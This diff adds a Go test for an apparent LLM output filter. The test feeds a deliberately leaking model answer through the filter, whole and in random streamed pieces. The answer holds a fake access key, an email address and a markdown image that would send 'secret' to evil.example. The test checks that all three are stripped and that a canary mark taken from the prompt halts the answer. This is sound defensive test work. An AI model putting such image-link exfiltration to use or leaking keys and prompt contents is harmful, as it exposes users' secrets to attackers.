@@ -1,0 +1,140 @@
+package test
+
+import (
+	"bufio"
+	"bytes"
+	"encoding/json"
+	"io"
+	"math/rand/v2"
+	"net/http"
+	"path/filepath"
+	"regexp"
+	"strings"
+	"testing"
+	"time"
+
+	"github.com/doorward/doorward/api"
+	"github.com/doorward/doorward/api/auth"
+	"github.com/doorward/doorward/policy"
+)
+
+// TestAnswers sends a leaking answer back through the filter, whole and in
+// random pieces: the same comes out, and none of what had to stay in.
+func TestAnswers(t *testing.T) {
+	dir := t.TempDir()
+	write(t, filepath.Join(dir, "doorward.yaml"), []byte(leakConfig))
+	write(t, filepath.Join(dir, "documents", "crane.txt"), []byte("The harbour crane is repaired on Tuesdays."))
+	must(t, dir, "keys", "init")
+	must(t, dir, "ingest")
+	b := register(t, dir, "chat")
+	var stop func()
+	b.url, stop = serve(t, dir)
+	defer stop()
+	ann := policy.Subject{ID: "ann", Groups: []string{"staff"}}
+	r := b.retrieve(t, ann, api.RetrieveRequest{Question: "when is the crane repaired?", Format: "messages"})
+	secret := "AK" + "IA" + "Z7Q2MK4LTX5VW3RP"
+	answer := "It is repaired on Tuesdays [" + r.Passages[0].Citation + "]. The key is " + secret + ", write to bob@example.com. ![pixel](https://evil.example/?q=secret) Done."
+
+	var whole api.OutputResponse
+	status, body := b.as(t, ann, "/v1/output", api.OutputRequest{ContextID: r.ContextID, Text: answer})
+	if err := json.Unmarshal(body, &whole); status != http.StatusOK || err != nil {
+		t.Fatalf("%d %s", status, body)
+	}
+	for _, must := range []string{"on Tuesdays", "Done."} {
+		if !strings.Contains(whole.Text, must) {
+			t.Errorf("%q is missing in %q", must, whole.Text)
+		}
+	}
+	for _, never := range []string{secret, "bob@example.com", "evil.example"} {
+		if strings.Contains(whole.Text, never) {
+			t.Errorf("%q was let out", never)
+		}
+	}
+	rng := rand.New(rand.NewPCG(1, 2))
+	for range 5 {
+		text, end := b.stream(t, ann, r.ContextID, pieces(rng, answer))
+		if text != whole.Text || end["action"] != whole.Action {
+			t.Errorf("streamed %q (%v), whole %q (%s)", text, end["action"], whole.Text, whole.Action)
+		}
+	}
+
+	// The mark in the prompt ends the answer.
+	mark := regexp.MustCompile(`\(reference (\S+), not`).FindStringSubmatch(r.Messages[1].Content)
+	if mark == nil {
+		t.Fatal("the prompt holds no mark")
+	}
+	text, end := b.stream(t, ann, r.ContextID, []string{"My context says ", mark[1], " and more"})
+	if strings.Contains(text, mark[1]) || strings.Contains(text, "and more") || end["action"] != "hold" {
+		t.Errorf("after the mark: %q, %v", text, end)
+	}
+
+	// Without a ticket, or with somebody else's, anything found stops the answer.
+	for _, context := range []string{"", "AAAA", r.ContextID} {
+		status, body := b.as(t, policy.Subject{ID: "eve"}, "/v1/output", api.OutputRequest{ContextID: context, Text: "Write to bob@example.com now"})
+		var strict api.OutputResponse
+		if err := json.Unmarshal(body, &strict); status != http.StatusOK || err != nil || strict.Action != "hold" || strings.Contains(strict.Text, "now") {
+			t.Errorf("context %.6q: %d %s", context, status, body)
+		}
+	}
+	must(t, dir, "audit", "verify")
+}
+
+func pieces(rng *rand.Rand, text string) (out []string) {
+	for len(text) > 0 {
+		n := min(1+rng.IntN(9), len(text))
+		out = append(out, text[:n])
+		text = text[n:]
+	}
+	return out
+}
+
+// stream sends deltas and reads the filtered ones back.
+func (b *backend) stream(t *testing.T, s policy.Subject, contextID string, deltas []string) (string, map[string]any) {
+	t.Helper()
+	s.Tenant, s.Authn.Backend = b.tenant, b.id
+	token, err := auth.Mint(b.assertion, "doorward", s, time.Now(), time.Minute)
+	if err != nil {
+		t.Fatal(err)
+	}
+	in, out := io.Pipe()
+	go func() {
+		e := json.NewEncoder(out)
+		for i, d := range deltas {
+			line := map[string]string{"delta": d}
+			if i == 0 {
+				line["context_id"] = contextID
+			}
+			if e.Encode(line) != nil {
+				break
+			}
+		}
+		out.Close()
+	}()
+	r, err := http.NewRequest("POST", b.url+"/v1/output/stream", in)
+	if err != nil {
+		t.Fatal(err)
+	}
+	r.Header.Set("Authorization", "Bearer "+b.key)
+	r.Header.Set(auth.Header, token)
+	resp, err := b.client.Do(r)
+	if err != nil {
+		t.Fatal(err)
+	}
+	defer resp.Body.Close()
+	var text bytes.Buffer
+	for lines := bufio.NewScanner(resp.Body); lines.Scan(); {
+		var l struct {
+			Delta string         `json:"delta"`
+			End   map[string]any `json:"end"`
+		}
+		if err := json.Unmarshal(lines.Bytes(), &l); err != nil {
+			t.Fatalf("%d %s", resp.StatusCode, lines.Bytes())
+		}
+		text.WriteString(l.Delta)
+		if l.End != nil {
+			return text.String(), l.End
+		}
+	}
+	t.Fatal("the stream had no end event")
+	return "", nil
+}
